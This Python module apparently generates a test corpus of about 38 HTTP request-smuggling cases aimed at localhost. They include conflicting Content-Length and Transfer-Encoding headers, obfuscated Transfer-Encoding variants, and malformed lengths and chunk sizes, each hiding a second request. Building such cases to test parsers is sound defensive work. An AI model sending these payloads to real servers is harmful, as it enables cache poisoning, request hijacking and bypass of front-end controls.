"""Request smuggling: requests whose end two programs may see differently."""

from __future__ import annotations

# The request hidden in a body; {n} is the number of the case.
HIDDEN = b"GET /smuggled/%d HTTP/1.1\r\nHost: localhost\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
END = b"0\r\n\r\n"


def _post(lines: bytes, body: bytes) -> bytes:
    """`%d` in the path is the number of the case."""
    return b"POST /asked/%d HTTP/1.1\r\nHost: localhost\r\n" + lines + b"\r\n" + body


def _length(size: int | bytes) -> bytes:
    return (
        b"Content-Length: "
        + (size if isinstance(size, bytes) else b"%d" % size)
        + b"\r\n"
    )


def _hidden_behind_end(lines: bytes) -> bytes:
    """One body by Content-Length, but two requests by Transfer-Encoding."""
    body = END + HIDDEN
    # As long as the body will be with a number of two digits.
    return _post(_length(len(body)) + lines, body)


def _chunk(content: bytes) -> bytes:
    return b"%x\r\n" % len(content) + content + b"\r\n"


VARIANTS: dict[str, bytes] = {
    "length, then chunked": _hidden_behind_end(CHUNKED),
    "chunked, then a short length": _post(CHUNKED + _length(4), _chunk(HIDDEN) + END),
    "a tab before chunked": _hidden_behind_end(b"Transfer-Encoding:\tchunked\r\n"),
    "a space before the colon": _hidden_behind_end(b"Transfer-Encoding : chunked\r\n"),
    "an unknown coding": _hidden_behind_end(b"Transfer-Encoding: xchunked\r\n"),
    "chunked, identity": _hidden_behind_end(
        b"Transfer-Encoding: chunked, identity\r\n"
    ),
    "identity, chunked": _hidden_behind_end(
        b"Transfer-Encoding: identity, chunked\r\n"
    ),
    "two codings": _hidden_behind_end(CHUNKED + b"Transfer-Encoding: identity\r\n"),
    "two codings, the other way": _hidden_behind_end(
        b"Transfer-Encoding: identity\r\n" + CHUNKED
    ),
    "a vertical tab": _hidden_behind_end(b"Transfer-Encoding:\x0bchunked\r\n"),
    "a NUL": _hidden_behind_end(b"Transfer-Encoding: chunked\x00\r\n"),
    "quotes": _hidden_behind_end(b'Transfer-Encoding: "chunked"\r\n'),
    "capital letters": _hidden_behind_end(b"TRANSFER-ENCODING: CHUNKED\r\n"),
    "an underscore": _hidden_behind_end(b"Transfer_Encoding: chunked\r\n"),
    "a header folded": _hidden_behind_end(b"Transfer-Encoding:\r\n chunked\r\n"),
    "a header that begins with a space": _hidden_behind_end(b" " + CHUNKED),
    "a header behind a bare line feed": _hidden_behind_end(b"X: y\n" + CHUNKED),
    "a header behind a bare carriage return": _hidden_behind_end(b"X: y\r" + CHUNKED),
    "a length of 0 and another": _post(_length(0) + _length(len(HIDDEN)), HIDDEN),
    "another length and 0": _post(_length(len(HIDDEN)) + _length(0), HIDDEN),
    "a list of lengths": _post(_length(b"0, %d" % len(HIDDEN)), HIDDEN),
    "a length with a sign": _post(_length(b"+0"), HIDDEN),
    "a negative length": _post(_length(b"-1"), HIDDEN),
    "a length in base 16": _post(_length(b"0x0"), HIDDEN),
    "a length with a space": _post(_length(b"0 1"), HIDDEN),
    "a length beyond 64 bits": _post(_length(2**64), HIDDEN),
    "a length in a coding's name": _hidden_behind_end(
        b"Transfer-Encoding\r\n: chunked\r\n"
    ),
    "a chunk's extension with a line feed": _post(
        CHUNKED, b"0;a=\n" + HIDDEN + b"\r\n"
    ),
    "a chunk's size beyond 64 bits": _post(CHUNKED, b"10000000000000000\r\n" + HIDDEN),
    "a chunk's size in 0x": _post(CHUNKED, b"0x0\r\n\r\n" + HIDDEN),
    "a chunk's size with a sign": _post(CHUNKED, b"+0\r\n\r\n" + HIDDEN),
    "a negative chunk": _post(CHUNKED, b"-1\r\n" + HIDDEN),
    "chunks ended by line feeds": _post(CHUNKED, b"2\n{}\n0\n\n" + HIDDEN),
    "a chunk longer than it says": _post(CHUNKED, b"2\r\n{}x\r\n" + END + HIDDEN),
    "a chunk without its end": _post(CHUNKED, b"2\r\n{}" + END + HIDDEN),
    "chunked in HTTP/1.0": _hidden_behind_end(CHUNKED).replace(
        b"HTTP/1.1", b"HTTP/1.0", 1
    ),
    "a body of a GET": _post(_length(len(HIDDEN)), HIDDEN).replace(b"POST", b"GET", 1),
    "a version of two lines": _post(_length(0), b"").replace(
        b" HTTP/1.1\r\n", b" HTTP/1.1\n" + HIDDEN.replace(b"\r\n\r\n", b"\r\n"), 1
    ),
}


def request_of(name: str, number: int) -> bytes:
    """Returns the bytes of a case, with its two-digit number in the paths."""
    assert 10 <= number < 100
    raw = VARIANTS[name]
    # `%d` has as many letters as the number.
    return raw.replace(b"%d", b"%d" % number)
